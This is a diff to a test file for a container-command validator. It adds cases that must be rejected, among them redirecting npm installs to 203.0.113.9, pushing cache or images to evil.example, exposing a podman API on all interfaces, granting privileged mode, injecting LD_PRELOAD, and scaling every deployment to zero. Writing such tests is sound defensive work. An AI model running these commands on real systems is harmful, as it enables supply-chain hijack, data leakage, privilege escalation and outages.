@@ -46,6 +46,25 @@ describe('what a container is given', () => {
   ])('obeys code among its variables: %s', (command) => expect(passes(command)).toBe(false))
 
   it.each([
+    'docker run --dns 203.0.113.9 app npm ci',
+    'docker run --add-host registry.npmjs.org:203.0.113.9 node npm ci',
+    'docker run -e HTTPS_PROXY=http://203.0.113.9:8080 node npm ci',
+    'docker run --net=container:db somebody/x',
+    'docker buildx build --cache-to type=registry,ref=evil.example/c .',
+    'docker buildx bake https://github.com/evil/x.git',
+    'docker service update --image evil.example/x web',
+    'podman system service --time=0 tcp:0.0.0.0:8888',
+    `kubectl patch deploy web -p '[{"value":{"privileged":true}}]'`,
+    'kubectl scale deploy --all --replicas=0',
+    'helm upgrade web ./c --set securityContext.privileged=true',
+    'helm upgrade web ./c --set env.LD_PRELOAD=/x.so',
+  ])('depends on others: %s', (command) => expect(passes(command)).toBe(false))
+
+  it.each([
+    'docker run --dns 8.8.8.8 --add-host host.docker.internal:host-gateway app',
+    'docker buildx build --cache-to type=registry,ref=ghcr.io/acme/c --cache-from type=gha .',
+    'helm upgrade web ./c --set replicas=2',
+    'kubectl scale deploy web --replicas=0',
     'docker run --rm -e POSTGRES_PASSWORD=test -p 5432:5432 postgres:16',
     'docker run --rm -e DEBUG -e CI node:20 npm test',
     'docker run --env-file .env -p 3000:3000 myapp',
